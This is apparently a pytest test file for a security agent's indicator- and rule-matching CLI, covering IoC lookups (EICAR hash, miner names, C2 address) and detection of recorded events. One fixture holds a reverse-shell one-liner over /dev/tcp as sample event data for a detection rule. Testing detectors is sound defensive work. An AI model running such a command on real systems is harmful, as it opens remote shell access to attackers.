import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.cli import main
from agent.commands.match import open_index
from proto.content.errors import ContentDamaged, ContentError
from proto.content.kinds import IndicatorKind
from proto.content.rulesfile import written
from tests.collector.content.rulesources import own
from tests.proto.content.builders import EICAR, a_file


@pytest.fixture
def index(tmp_path: Path) -> Path:
    path = tmp_path / "indicators.vdx"
    path.write_bytes(a_file())
    return path


def matched(capsys: pytest.CaptureFixture[str]) -> list[dict[str, object]]:
    return [json.loads(line) for line in capsys.readouterr().out.splitlines()]


@pytest.mark.parametrize(
    ("kind", "value", "feed"),
    [
        ("sha256", EICAR, "testfeed"),
        ("file_name", "kdevtmpfsi", "testfeed"),
        ("process_name", "xmrig", "testfeed"),
        ("ipv4", "192.0.2.1", "testfeed"),
        ("cidr", "192.0.2.0/24", "wide"),
        ("ip_port", "192.0.2.1:4444", "c2"),
        ("ipv6", "2001:db8::1", "testfeed"),
    ],
)
def test_a_match_is_one_line_with_rule_event_and_fields_and_exit_3(
    index: Path, capsys: pytest.CaptureFixture[str], kind: str, value: str, feed: str
) -> None:
    code = main(["match", "--index", str(index), kind, value, "--json"])

    (row,) = matched(capsys)
    assert code == 3
    assert set(row) == {"rule_id", "event", "fields"}
    assert (row["rule_id"], row["event"]) == (f"indicator.{kind}", value)
    assert feed in json.dumps(row["fields"])


def test_several_values_are_looked_up_in_their_order(
    index: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    words = ["process_name", "nginx", "xmrig", "nginx", "xmrig"]

    code = main(["match", "--index", str(index), *words, "--json"])

    assert code == 3
    assert [row["event"] for row in matched(capsys)] == ["xmrig", "xmrig"]


def test_no_match_is_silence_and_exit_0(index: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code = main(["match", "--index", str(index), "ipv4", "198.51.100.1", "--json"])

    assert code == 0
    assert capsys.readouterr() == ("", "")


def test_a_person_sees_a_table(index: Path, capsys: pytest.CaptureFixture[str]) -> None:
    main(["match", "--index", str(index), "ipv4", "192.0.2.1"])

    heading, row = capsys.readouterr().out.splitlines()
    assert heading.split() == ["RULE_ID", "EVENT", "FIELDS"]
    assert row.split()[:2] == ["indicator.ipv4", "192.0.2.1"]


@pytest.mark.parametrize("data", [b"", b"VDX", a_file()[:-1], b"\0" * 4096])
def test_a_file_that_is_no_index_is_an_error_and_no_trace(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], data: bytes
) -> None:
    path = tmp_path / "bad.vdx"
    path.write_bytes(data)

    code = main(["match", "--index", str(path), "ipv4", "192.0.2.1"])

    out, err = capsys.readouterr()
    assert (code, out) == (1, "")
    assert err.startswith("vedette-agent: ")


def test_an_empty_file_is_damaged_like_any_other(tmp_path: Path) -> None:
    (tmp_path / "empty").touch()

    with pytest.raises(ContentDamaged):
        open_index(tmp_path / "empty")


@given(st.binary(max_size=300))
def test_any_bytes_are_an_index_or_an_error_of_ours(
    tmp_path_factory: pytest.TempPathFactory, data: bytes
) -> None:
    path = tmp_path_factory.getbasetemp() / "any.vdx"
    path.write_bytes(data)

    with pytest.raises(ContentError):
        open_index(path)


@pytest.mark.parametrize("kind", [kind.value for kind in IndicatorKind])
@pytest.mark.parametrize("value", ["", "\udcff", "a\0b", "٣.1.1.1", "[" * 2000])
def test_a_value_that_is_none_of_its_kind_matches_nothing(
    index: Path, capsys: pytest.CaptureFixture[str], kind: str, value: str
) -> None:
    code = main(["match", "--index", str(index), kind, value])

    assert code == 0
    assert capsys.readouterr().err == ""


@pytest.fixture
def events(tmp_path: Path) -> Path:
    path = tmp_path / "events.jsonl"
    shell = {"Image": "/bin/sh", "CommandLine": "sh -i >& /dev/tcp/192.0.2.1/4444 0>&1"}
    lines = [{"Image": "/bin/ls"}, shell, {"DestinationIp": "192.0.2.1"}]
    path.write_text("".join(json.dumps(line) + "\n" for line in lines))
    return path


@pytest.fixture
def rules(tmp_path: Path) -> Path:
    path = tmp_path / "content.vdr"
    path.write_bytes(written(own().rules))
    return path


def test_recorded_events_are_judged_by_rules_and_indicators(
    index: Path, rules: Path, events: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    words = ["--rules", str(rules), "--intel", str(index), "--format", "raw"]

    code = main(["match", *words, "--events", str(events), "--json"])

    rows = matched(capsys)
    assert code == 3
    assert all(set(row) == {"rule_id", "event", "fields"} for row in rows)
    assert {row["event"] for row in rows} == {1, 2}
    assert rows[0]["fields"] == {
        "Image": "/bin/sh",
        "CommandLine": "sh -i >& /dev/tcp/192.0.2.1/4444 0>&1",
    }


def test_events_of_nobody_are_silence_and_exit_0(
    rules: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "quiet.jsonl").write_text('{"Image": "/bin/ls"}\n{\n')
    words = ["--rules", str(rules), "--format", "ecs", "--events", str(tmp_path / "quiet.jsonl")]

    code = main(["match", *words, "--json"])

    out, err = capsys.readouterr()
    assert (code, out) == (0, "")
    assert "1 of 2 lines are no events of format ecs" in err


@pytest.mark.parametrize(
    "words",
    [
        [],
        ["--index", "x.vdx"],
        ["--index", "x.vdx", "ipv4"],
        ["--events", "x.jsonl"],
        ["--coverage"],
        ["--coverage", "--rules", "x", "--events", "x"],
        ["--events", "x.jsonl", "--rules", "x", "ipv4", "1"],
        ["--events", "x.jsonl", "--rules", "x", "--format", "other"],
    ],
)
def test_what_makes_no_sense_together_is_usage(words: list[str]) -> None:
    with pytest.raises(SystemExit) as caught:
        main(["match", *words])

    assert caught.value.code == 2


def test_what_each_rule_is_worth_here_is_one_line(
    rules: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["match", "--rules", str(rules), "--coverage", "--json"]) == 0

    rows = {row["title"]: row for row in matched(capsys)}
    assert rows["Shell With Its Streams On A Socket"]["state"] == "active"
    degraded = rows["One Of Every Modifier"]
    assert (degraded["state"], degraded["alerts"]) == ("degraded", True)
    assert "UtcTime" in degraded["missing"]  # type: ignore[operator]
